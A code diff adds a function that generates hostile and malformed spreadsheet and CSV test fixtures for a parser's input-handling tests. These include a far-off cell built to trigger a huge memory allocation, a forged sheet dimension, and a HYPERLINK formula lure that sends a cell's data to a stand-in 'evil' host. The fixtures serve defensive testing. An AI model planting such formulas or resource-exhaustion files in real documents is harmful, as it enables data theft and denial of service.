@@ -177,6 +177,28 @@ def build() -> None:
         _book([[h if i % 2 else f" {h.upper()} " for i, h in enumerate(HEAD)], ROW]),
         "messy_headers.xlsx",
     )
+    _issue_11(csv_text)
+
+
+def _issue_11(csv_text: str) -> None:
+    """Cases of issue 11 (hostile and clumsy input): one file per item."""
+    far = _book([HEAD, ROW])
+    far.active["XFD1048576"] = "x"  # type: ignore[index]
+    _save(far, "far_cell.xlsx")  # item 4: calamine would ask for 512 GiB
+    _save(_book([HEAD, ROW]), "dimension_lie.xlsx")
+    _patch(
+        HERE / "dimension_lie.xlsx",
+        "xl/worksheets/sheet1.xml",
+        lambda x: re.sub(rb'<dimension ref="[^"]*" ?/>', b'<dimension ref="A1:ZZ1048576"/>', x),
+    )
+    evil = _book([HEAD, [*ROW[:6], '=HYPERLINK("http://evil/?d="&H2,"点此修复")']])
+    evil.active["G2"].data_type = "s"  # type: ignore[index]  # typed text, not a formula
+    _save(evil, "formula_text.xlsx")  # item 5: must stay text in every output
+    _save(_book([HEAD, ROW, [ROW[0], ROW[1], None, *ROW[3:]]]), "required_blank.xlsx")  # item 1
+    (HERE / "mac.csv").write_bytes(csv_text.replace("\n", "\r").encode("utf-8"))  # item 8
+    (HERE / "utf16_no_bom.csv").write_bytes(csv_text.encode("utf-16-le"))  # item 8
+    long = csv_text.rstrip("\n") + "长" * 40_000 + "\n"  # item 11: over Excel's 32,767
+    (HERE / "long_cell.csv").write_text(long, encoding="utf-8")
 
 
 if __name__ == "__main__":
